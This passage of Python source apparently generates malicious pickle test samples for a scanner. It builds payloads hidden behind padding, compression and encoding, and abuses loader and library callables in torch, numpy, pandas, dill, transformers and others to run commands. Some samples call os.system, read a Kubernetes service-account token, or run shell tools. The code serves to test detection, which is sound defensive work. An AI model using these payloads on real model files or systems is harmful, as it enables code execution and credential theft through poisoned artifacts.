    yield "after-nul-padding", good + b"\0" * 512 + bad, "gray"
    yield "after-text", b"# model weights, do not edit\n" + bad, "gray"
    yield "before-junk", bad + b"\xde\xad\xbe\xef" * 100
    yield "before-zip-magic", bad + b"PK\x05\x06" + b"\0" * 18
    yield "before-gzip-magic", bad + b"\x1f\x8b\x08\0"
    yield "before-png", bad + b"\x89PNG\r\n\x1a\n" + b"\0" * 64
    yield "before-json", bad + b'{"a": 1}'
    yield "protocol-0-then-4", a.whole(a.MARK + a.LIST, 0) + bad
    yield "payload-after-8-megabytes", a.proto(4) + a.binbytes(b"\0" * 8_000_000) + a.POP + payload(chance) + a.STOP
    yield "payload-after-200-blobs", a.proto(4) + a.list_(*(a.binbytes(bytes(9000)) for _ in range(200))) + a.POP + payload(chance) + a.STOP
    yield "payload-after-400000-opcodes", a.proto(4) + (a.NONE + a.POP) * 200_000 + payload(chance) + a.STOP
    yield "payload-after-70000-memos", a.proto(4) + (a.NONE + a.MEMOIZE + a.POP) * 70_000 + payload(chance) + a.STOP
    yield "payload-below-2000-lists", a.proto(4) + a.EMPTY_LIST * 2000 + payload(chance) + a.APPEND * 2000 + a.STOP
    yield "payload-below-2000-tuples", a.proto(4) + payload(chance) + a.TUPLE1 * 2000 + a.STOP
    yield "payload-below-5000-marks", a.proto(4) + a.MARK * 5000 + payload(chance) + a.TUPLE * 5000 + a.STOP
    loads = a.named("pickle", "loads")
    wrapped = {
        "raw": a.binbytes(bad), "bytearray": a.bytearray8(bad), "latin1-text": a.call(a.named("_codecs", "encode"), a.binunicode(bad.decode("latin1")), a.short("latin1")),
        "zlib": a.call(a.named("zlib", "decompress"), a.binbytes(zlib.compress(bad))), "bz2": a.call(a.named("bz2", "decompress"), a.binbytes(bz2.compress(bad))),
        "lzma": a.call(a.named("lzma", "decompress"), a.binbytes(lzma.compress(bad))), "base64": a.call(a.named("base64", "b64decode"), a.short(base64.b64encode(bad).decode())),
        "base85": a.call(a.named("base64", "b85decode"), a.short(base64.b85encode(bad).decode())), "hex": a.call(a.named("builtins", "bytes.fromhex"), a.short(bad.hex())),
        "codecs-hex": a.call(a.named("codecs", "decode"), a.short(bad.hex()), a.short("hex")), "codecs-zip": a.call(a.named("_codecs", "decode"), a.binbytes(zlib.compress(bad)), a.short("zip")),
        "joined": a.call(a.named("builtins", "bytes.join"), a.short_binbytes(b""), a.list_(a.binbytes(bad[:9]), a.binbytes(bad[9:]))), "twice": a.binbytes(a.whole(a.call(loads, a.binbytes(bad)))),
        "reversed": a.call(a.named("builtins", "bytes"), a.call(a.named("builtins", "reversed"), a.binbytes(bad[::-1]))), "array": a.call(a.named("builtins", "bytes"), a.list_(*(a.binint1(byte) for byte in bad))),
    }  # fmt: skip
    for label, data in wrapped.items():
        yield f"loads-{label}", a.whole(a.call(loads, data))
    for module, name in (("_pickle", "loads"), ("cloudpickle", "loads"), ("dill", "loads"), ("jsonpickle", "decode"), ("marshal", "loads"), ("joblib", "load"), ("torch", "load"), ("pandas", "read_pickle"), ("numpy", "load"), ("yaml", "unsafe_load"), ("ruamel.yaml", "load"), ("shelve", "open"), ("dask.distributed", "deserialize"), ("pyarrow", "deserialize"), ("ray.cloudpickle", "loads"), ("srsly", "pickle_loads"), ("hickle", "load"), ("klepto.archives", "file_archive"), ("multiprocessing.reduction", "ForkingPickler.loads"), ("multiprocessing.connection", "Connection.recv"), ("logging.config", "_clearExistingHandlers"), ("copy", "_reconstruct"), ("xmlrpc.client", "loads"), ("plistlib", "loads"), ("numpy.compat.py3k", "npy_load_module"), ("pandas.compat.pickle_compat", "loads"), ("sklearn.externals.joblib", "load"), ("torch.serialization", "_legacy_load"), ("torch.package", "PackageImporter"), ("torch.jit", "load"), ("tensorflow", "load_op_library"), ("keras.models", "load_model"), ("keras.saving", "load_model"), ("onnxruntime", "SessionOptions.register_custom_ops_library"), ("xgboost", "Booster.load_model"), ("mlflow.pyfunc", "load_model"), ("transformers", "AutoModel.from_pretrained"), ("gradio", "load"), ("skops.io", "load"), ("h5py", "File")):  # fmt: skip
        gray = name in ("_clearExistingHandlers", "loads") and module in ("xmlrpc.client", "plistlib", "logging.config") or module in ("xgboost", "skops.io", "h5py")
        yield f"loader-{module}.{name}", a.whole(a.call(a.named(module, name), a.binbytes(bad))), "gray" if gray else "core"
    yield "dormant-in-dict", a.whole(a.dict_((a.short("blob"), a.binbytes(bad)))), "gray"
    yield "dormant-base64", a.whole(a.dict_((a.short("blob"), a.short(base64.b64encode(bad).decode())))), "gray"
    yield "import-only", a.whole(a.named("pwned_module", "weights"))
    yield "import-only-below-package", a.whole(a.named("numpy.pwned", "ndarray"))
    yield "import-only-inst", a.whole(a.inst("pwned_module", "Weights"), 0)
    yield "import-side-effect-stdlib", a.whole(a.named("this", "s")), "gray"
    yield "import-side-effect-idlelib", a.whole(a.named("idlelib.idle", "idlelib"))
    yield "import-main-module", a.whole(a.named("json.__main__", "main")), "gray"
    yield "billion-laughs", a.whole(a.list_(a.short("lol")) + b"".join(a.MEMOIZE + a.POP + a.EMPTY_LIST + a.MARK + a.binget(level) * 10 + a.APPENDS for level in range(40))), "gray"
    yield "tuple-doubling", a.whole(a.short("x") + (a.DUP + a.TUPLE2) * 64 + a.EMPTY_DICT + a.DUP + a.POP), "gray"
    yield "hash-doubling-key", a.whole(a.EMPTY_DICT + a.short("x") + (a.DUP + a.TUPLE2) * 64 + a.NONE + a.SETITEM), "gray"


def libraries(chance: Random) -> Made:
    """Callables that belong to what models are made of, with arguments they should never have."""
    module, name, text = runner(chance)
    bad = a.named(module, name)
    run = a.tuple_(a.short(text))
    rebuilt = {
        "torch-rebuild-from-type": a.call(a.named("torch._tensor", "_rebuild_from_type_v2"), bad, a.named("torch", "Tensor"), run, a.EMPTY_DICT),
        "torch-rebuild-wrapper": a.call(a.named("torch._utils", "_rebuild_wrapper_subclass"), bad, a.named("torch", "float32"), run, a.EMPTY_TUPLE, a.binint1(0), a.NONE, a.NONE, a.NEWFALSE),
        "torch-rebuild-parameter-with-state": a.call(a.named("torch._utils", "_rebuild_parameter_with_state"), a.NONE, a.NEWTRUE, a.call(a.named("collections", "OrderedDict")), a.dict_((a.short("__class__"), bad))),
        "torch-fx-deserialize": a.call(a.named("torch.fx.graph_module", "reduce_graph_module"), a.dict_((a.short("_code"), CODE)), a.short("import os")),
        "torch-fx-exec": a.call(a.named("torch.fx.graph_module", "_exec_with_source"), CODE, a.EMPTY_DICT),
        "torch-nn-unpickled-hook": a.named("torch.nn.modules.linear", "Linear") + a.EMPTY_TUPLE + a.NEWOBJ + a.dict_((a.short("_forward_pre_hooks"), a.dict_((a.binint1(0), bad)))) + a.BUILD,
        "torch-nn-forward-replaced": a.named("torch.nn.modules.linear", "Linear") + a.EMPTY_TUPLE + a.NEWOBJ + a.dict_((a.short("forward"), a.call(a.named("functools", "partial"), bad, a.short(text)))) + a.BUILD,
        "torch-getattr-ops": a.call(a.named("torch._ops", "_OpNamespace"), a.short("aten")),
        "torch-dispatch-python": a.call(a.named("torch._C", "_jit_pass_custom_pattern_based_rewrite"), a.short(text)),
        "torch-sym-eval": a.call(a.named("torch.fx.experimental.symbolic_shapes", "eval"), CODE),
        "numpy-reconstruct-class": a.call(a.named("numpy.core.multiarray", "_reconstruct"), a.named("subprocess", "Popen"), a.tuple_(a.binint1(0)), a.short_binbytes(b"b")),
        "numpy-scalar-object": a.call(a.named("numpy._core.multiarray", "scalar"), a.call(a.named("numpy", "dtype"), a.short("O8"), a.NEWFALSE, a.NEWTRUE), a.binbytes(stream(chance))),
        "numpy-ufunc-reconstruct": a.call(a.named("numpy.core", "_ufunc_reconstruct"), a.short("os"), a.short("system")),
        "numpy-frompyfunc": a.call(a.call(a.named("numpy", "frompyfunc"), bad, a.binint1(1), a.binint1(1)), a.short(text)),
        "numpy-vectorize": a.call(a.call(a.named("numpy", "vectorize"), bad), a.short(text)),
        "numpy-apply-along": a.call(a.named("numpy", "apply_along_axis"), bad, a.binint1(0), a.list_(a.short(text))),
        "numpy-fromfunction": a.call(a.named("numpy", "fromfunction"), bad, a.tuple_(a.binint1(1))),
        "numpy-piecewise": a.call(a.named("numpy", "piecewise"), a.list_(a.short(text)), a.list_(a.NEWTRUE), a.list_(bad)),
        "numpy-memmap": a.call(a.named("numpy", "memmap"), a.short("./pwned"), a.short("uint8"), a.short("w+")),
        "numpy-fromfile": a.call(a.named("numpy", "fromfile"), a.short("/var/run/secrets/kubernetes.io/serviceaccount/token")),
        "numpy-tofile": a.call(a.named("numpy", "ndarray.tofile"), a.call(a.named("numpy", "array"), a.binint1(1)), a.short("./pwned")),
        "numpy-savetxt": a.call(a.named("numpy", "savetxt"), a.short("./pwned"), a.list_(a.binint1(1))),
        "numpy-datasource": a.call(a.named("numpy", "DataSource.open"), a.call(a.named("numpy", "DataSource")), a.short("http://127.0.0.1:9/pwned")),
        "numpy-distutils-exec": a.call(a.named("numpy.distutils.exec_command", "exec_command"), COMMAND),
        "numpy-ctypeslib": a.call(a.named("numpy.ctypeslib", "load_library"), a.short("pwned"), a.short(".")),
        "pandas-eval": a.call(a.named("pandas.core.computation.eval", "eval"), a.short("@__import__('os').system('echo pwned')")),
        "pandas-query": a.call(a.named("pandas.core.frame", "DataFrame.query"), a.NONE, a.short("@pd.io.common.os.system('echo pwned')")),
        "pandas-apply": a.call(a.named("pandas.core.series", "Series.apply"), a.call(a.named("pandas", "Series"), a.list_(a.short(text))), bad),
        "pandas-read-csv-url": a.call(a.named("pandas", "read_csv"), a.short("http://127.0.0.1:9/pwned")),
        "pandas-new-index": a.call(a.named("pandas.core.indexes.base", "_new_Index"), bad, a.dict_((a.short("data"), a.short(text)))),
        "pandas-unpickle-block": a.call(a.named("pandas._libs.internals", "_unpickle_block"), a.call(bad, a.short(text)), a.NONE, a.binint1(1)),
        "scipy-lowlevel": a.call(a.named("scipy._lib._ccallback", "LowLevelCallable"), bad),
        "scipy-loadmat": a.call(a.named("scipy.io", "loadmat"), a.short("./pwned")),
        "sklearn-functiontransformer": a.named("sklearn.preprocessing._function_transformer", "FunctionTransformer") + a.EMPTY_TUPLE + a.NEWOBJ + a.dict_((a.short("func"), bad)) + a.BUILD,
        "sklearn-make-scorer": a.call(a.named("sklearn.metrics._scorer", "_Scorer"), bad, a.binint1(1), a.EMPTY_DICT),
        "sklearn-kernel-callable": a.named("sklearn.svm._classes", "SVC") + a.EMPTY_TUPLE + a.NEWOBJ + a.dict_((a.short("kernel"), bad)) + a.BUILD,
        "sklearn-countvectorizer-tokenizer": a.named("sklearn.feature_extraction.text", "CountVectorizer") + a.EMPTY_TUPLE + a.NEWOBJ + a.dict_((a.short("tokenizer"), bad)) + a.BUILD,
        "sklearn-pipeline-memory": a.call(a.named("sklearn.pipeline", "_transform_one"), a.NONE, a.NONE, a.NONE, a.short(text)),
        "sklearn-delayed": a.call(a.call(a.named("joblib.parallel", "BatchedCalls"), a.list_(a.tuple_(bad, run, a.EMPTY_DICT)), a.NONE)),
        "joblib-memory-eval": a.call(a.named("joblib.func_inspect", "get_func_code"), bad),
        "joblib-loky-wrap": a.call(a.named("joblib.externals.loky.cloudpickle_wrapper", "_reconstruct_wrapper"), a.binbytes(stream(chance)), a.NEWFALSE),
        "joblib-unpickler-dispatch": a.named("joblib.numpy_pickle", "NumpyUnpickler.dispatch") + a.binint1(82) + bad + a.SETITEM,
        "dill-create-function": a.call(a.call(a.named("dill._dill", "_create_function"), a.call(a.named("dill._dill", "_create_code"), a.short_binbytes(b"\x97\0")), a.EMPTY_DICT)),
        "dill-import-module": a.call(a.named("dill._dill", "_import_module"), a.short("os.system")),
        "dill-get-attr": a.call(a.call(a.named("dill._dill", "_get_attr"), a.call(a.named("dill._dill", "_import_module"), a.short("os")), a.short("system")), COMMAND),
        "dill-eval-repr": a.call(a.named("dill._dill", "_eval_repr"), CODE),
        "dill-create-type": a.call(a.named("dill._dill", "_create_type"), a.named("builtins", "type"), a.short("X"), a.EMPTY_TUPLE, a.EMPTY_DICT),
        "dill-load-type": a.call(a.call(a.named("dill._dill", "_load_type"), a.short("CodeType")), a.binint1(0)),
        "dill-create-filehandle": a.call(a.named("dill._dill", "_create_filehandle"), a.short("./pwned"), a.short("w"), a.binint1(0), a.NEWFALSE, a.binint1(0), a.NEWFALSE, a.short("pwned")),
        "cloudpickle-make-function": a.call(a.named("cloudpickle.cloudpickle", "_make_function"), a.call(a.named("cloudpickle.cloudpickle", "_builtin_type"), a.short("CodeType")), a.EMPTY_DICT, a.NONE, a.NONE, a.NONE),
        "cloudpickle-make-skeleton": a.call(a.named("cloudpickle.cloudpickle", "_make_skeleton_class"), a.named("builtins", "type"), a.short("X"), a.EMPTY_TUPLE, a.EMPTY_DICT, a.NONE, a.NONE),
        "cloudpickle-subimport": a.call(a.named("cloudpickle.cloudpickle", "subimport"), a.short("pwned_module")),
        "cloudpickle-dynamic-subimport": a.call(a.named("cloudpickle.cloudpickle", "dynamic_subimport"), a.short("m"), a.dict_((a.short("x"), bad))),
        "cloudpickle-fast-setstate": a.call(a.named("cloudpickle.cloudpickle", "_function_setstate"), a.named("json", "loads"), a.tuple_(a.EMPTY_DICT, a.EMPTY_DICT)),
        "xgboost-callback": a.named("xgboost.sklearn", "XGBClassifier") + a.EMPTY_TUPLE + a.NEWOBJ + a.dict_((a.short("callbacks"), a.list_(bad)), (a.short("objective"), bad)) + a.BUILD,
        "lightgbm-objective": a.named("lightgbm.sklearn", "LGBMClassifier") + a.EMPTY_TUPLE + a.NEWOBJ + a.dict_((a.short("_objective"), bad)) + a.BUILD,
        "transformers-dynamic-module": a.call(a.named("transformers.dynamic_module_utils", "get_class_from_dynamic_module"), a.short("x.X"), a.short("pwned/repo")),
        "transformers-lazy-module": a.call(a.named("transformers.utils.import_utils", "_LazyModule._get_module"), a.NONE, a.short("pwned")),
        "huggingface-download": a.call(a.named("huggingface_hub.file_download", "hf_hub_download"), a.short("pwned/repo"), a.short("x")),
        "datasets-load": a.call(a.named("datasets", "load_dataset"), a.short("pwned/repo")),
        "keras-lambda": a.call(a.named("keras.src.utils.python_utils", "func_load"), a.short(base64.b64encode(b"\xe3pwned").decode())),
        "keras-from-config": a.call(a.named("keras.src.models.model", "model_from_json"), a.short('{"class_name": "Lambda"}')),
        "tf-py-function": a.call(a.named("tensorflow.python.ops.script_ops", "eager_py_func"), bad, run, a.NONE),
        "tf-io-gfile": a.call(a.named("tensorflow.python.lib.io.file_io", "write_string_to_file"), a.short("./pwned"), a.short("x")),
        "jax-host-callback": a.call(a.named("jax", "pure_callback"), bad, a.NONE, a.short(text)),
        "sympy-lambdify": a.call(a.named("sympy.utilities.lambdify", "lambdify"), a.EMPTY_LIST, CODE),
        "sympy-parse": a.call(a.named("sympy.parsing.sympy_parser", "parse_expr"), CODE),
        "numba-jit-rebuild": a.call(a.named("numba.core.serialize", "_rebuild_function"), a.short_binbytes(b"x")),
        "numexpr-evaluate": a.call(a.named("numexpr", "evaluate"), CODE),
        "networkx-argmap": a.call(a.named("networkx.utils.decorators", "argmap.compile"), a.NONE, bad),
        "pydantic-import-string": a.call(a.named("pydantic._internal._validators", "import_string"), a.short("os.system")),
        "django-module-loading": a.call(a.call(a.named("django.utils.module_loading", "import_string"), a.short("os.system")), COMMAND),
        "werkzeug-import-string": a.call(a.call(a.named("werkzeug.utils", "import_string"), a.short("os:system")), COMMAND),
        "celery-symbol": a.call(a.named("kombu.utils.imports", "symbol_by_name"), a.short("os:system")),
        "zope-dottedname": a.call(a.named("zope.dottedname.resolve", "resolve"), a.short("os.system")),
        "twisted-namedany": a.call(a.call(a.named("twisted.python.reflect", "namedAny"), a.short("os.system")), COMMAND),
        "gym-load": a.call(a.named("gymnasium.envs.registration", "load_env_creator"), a.short("pwned:Env")),
        "ray-remote": a.call(a.named("ray", "remote"), bad),
        "mlflow-load-code": a.call(a.named("mlflow.utils.model_utils", "_add_code_to_system_path"), a.short("./pwned")),
        "langchain-import": a.call(a.named("langchain_core.load.load", "loads"), a.short('{"lc": 1, "type": "secret", "id": ["X"]}')),
        "langchain-shell": a.call(a.named("langchain_community.tools.shell.tool", "ShellTool.run"), a.NONE, COMMAND),
        "sqlalchemy-text": a.call(a.named("sqlalchemy", "create_engine"), a.short("sqlite:///pwned.db")),
        "boto3-client": a.call(a.named("boto3", "client"), a.short("sts")),
        "kubernetes-config": a.call(a.named("kubernetes.config", "load_incluster_config")),
        "paramiko-exec": a.call(a.named("paramiko", "ProxyCommand"), COMMAND),
        "fabric-local": a.call(a.named("invoke", "run"), COMMAND),
        "sh-command": a.call(a.call(a.named("sh", "Command"), a.short("echo")), a.short("pwned")),
        "plumbum-local": a.call(a.named("plumbum.machines.local", "LocalMachine.python"), COMMAND),
        "pexpect-run": a.call(a.named("pexpect", "run"), COMMAND),
        "git-clone-ext": a.call(a.named("git", "Repo.clone_from"), a.short("ext::sh -c echo"), a.short("x")),
        "matplotlib-agg": a.call(a.named("matplotlib.cbook", "_load_image"), a.short("./pwned")),
        "tqdm-monitor": a.call(a.named("tqdm.contrib.concurrent", "thread_map"), bad, a.list_(a.short(text))),
        "statsmodels-load": a.call(a.named("statsmodels.iolib.smpickle", "load_pickle"), a.short("./pwned.pkl")),
        "gensim-load": a.call(a.named("gensim.utils", "unpickle"), a.short("./pwned.pkl")),
        "nltk-load": a.call(a.named("nltk.data", "load"), a.short("./pwned.pickle")),
        "spacy-load": a.call(a.named("spacy", "load"), a.short("./pwned")),
        "pyarrow-plasma": a.call(a.named("pyarrow.compute", "register_scalar_function"), bad),
        "ultralytics-attempt": a.call(a.named("ultralytics.nn.tasks", "torch_safe_load"), a.short("./pwned.pt")),
        "ultralytics-parse-model": a.call(a.named("ultralytics.nn.tasks", "parse_model"), a.dict_((a.short("activation"), CODE)), a.binint1(3)),
        "lightning-cli": a.call(a.named("lightning_fabric.utilities.cloud_io", "_load"), a.short("http://127.0.0.1:9/x")),
        "accelerate-launch": a.call(a.named("accelerate.commands.launch", "simple_launcher"), a.short(text)),
        "wandb-run": a.call(a.named("wandb.util", "get_module"), a.short("pwned")),
    }  # fmt: skip
    gray = {"torch-getattr-ops", "boto3-client", "sqlalchemy-text", "matplotlib-agg", "kubernetes-config", "scipy-loadmat", "jax-host-callback"}  # fmt: skip
    for label, body in rebuilt.items():
        yield f"library-{label}", a.whole(body), "gray" if label in gray else "core"


GROUPS: tuple[Callable[[Random], Made], ...] = (
    names, computed, effects, opcodes, texts, frames, streams, libraries,
)  # fmt: skip


def samples(seed: int) -> Iterator[Sample]:
    """Every structural pickle."""
    for group in GROUPS:
        chance = chance_of(seed, f"evasion:{group.__name__}")
        for made in group(chance):
            label, data = made[0], made[1]
            tier = made[2] if len(made) == 3 else "core"
            yield Sample(f"evasion/{group.__name__}/{label}.pkl", data, f"{group.__name__}:{label}", "pickle", tier)
